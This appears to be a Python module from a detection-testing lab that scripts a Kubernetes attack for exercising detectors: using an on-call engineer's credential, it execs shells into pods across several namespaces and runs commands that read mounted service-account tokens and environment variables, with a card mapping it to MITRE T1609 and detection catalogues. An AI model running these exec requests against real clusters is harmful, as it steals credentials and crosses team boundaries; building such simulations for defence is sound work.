"""Attack: shells opened in one namespace after the other.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="exec-across-namespaces",
    title="Shells opened in one namespace after the other",
    technique=base.Technique(id="T1609", name="Container Administration Command", tactic="Execution"),
    use_case=vocabulary.UseCase.EXECUTION,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "With an on-call engineer's credential, opens shells in workloads of several teams and reads their "
        "mounted tokens."
    ),
    seen_by=(
        "Exec, which web-socket clients send as get, into several namespaces within minutes, with commands that "
        "read tokens."
    ),
    cleans_up="Leaves nothing behind: it only reads.",
    victim=base.Part.ONCALL,
    reach=base.Reach.CLUSTER,
    needs=("kubelet endpoint: without one the API server answers the exec with an error",),
    catalogues=(
        "Microsoft: Exec into container",
        "GuardDuty: AnomalousBehavior.ExecInPod",
        "stratus:k8s.credential-access.steal-serviceaccount-token",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.ONCALL)
    thief = ctx.act_as(victim)
    homes = ctx.namespaces()
    for namespace in ctx.rng.sample(homes, min(4, len(homes))):
        answer = yield thief.get(paths.core("pods", namespace), {"limit": 500})
        for _, pod in answer.items()[:2]:
            for line in ("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "env"):
                command = [("command", "sh"), ("command", "-c"), ("command", line)]
                yield thief.stream(
                    paths.core("pods", namespace, pod, "exec"), [*command, ("stdout", "true"), ("stderr", "true")]
                )


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
